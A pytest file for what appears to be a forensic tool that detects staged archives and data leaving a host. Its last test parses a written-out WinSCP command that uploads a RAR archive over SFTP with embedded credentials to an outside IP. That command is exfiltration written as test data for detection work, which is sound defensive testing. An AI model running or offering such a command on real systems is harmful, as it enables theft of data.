"""Archives that were packed to be fetched, and what a program for transfers was told to send."""

import pytest

from stanch.cause.commands import commanded
from stanch.cause.places import Places
from stanch.cause.things import Thing


@pytest.mark.parametrize(
    ("asked", "place"),
    [
        ("/portal/css/payroll-may.zip", "Transfers/payroll-may.zip"),
        ("/wp-content/uploads/backup-19052026.sql.gz", "dumps/backup-19052026.sql.gz"),
        ("/css/backup.zip", None),
        ("/css/leaflet-2.pdf", None),
        ("/css/copy-1.zip", None),
    ],
)
def test_an_archive_by_a_name_of_its_own_is_known_wherever_it_lies(asked: str, place: str | None) -> None:
    own = [
        "Transfers/payroll-may.zip",
        "dumps/backup-19052026.sql.gz",
        "dumps/backup.zip",
        "print/leaflet-2.pdf",
        "a/copy-1.zip",
        "b/copy-1.zip",
    ]
    met = Places.of(own).meet(Thing("path", asked, "acquired"))
    assert (met.places if met else None) == ((place,) if place else None)


def test_what_winscp_is_told_to_send_has_left() -> None:
    told = list(commanded('C:\\Tools\\WinSCP.com /command "open sftp://u:p@203.0.113.150" "put D:\\t.rar" exit'))
    assert [(one[0], one[1], one[2]) for one in told] == [("path", "D:/t.rar", "acquired")]
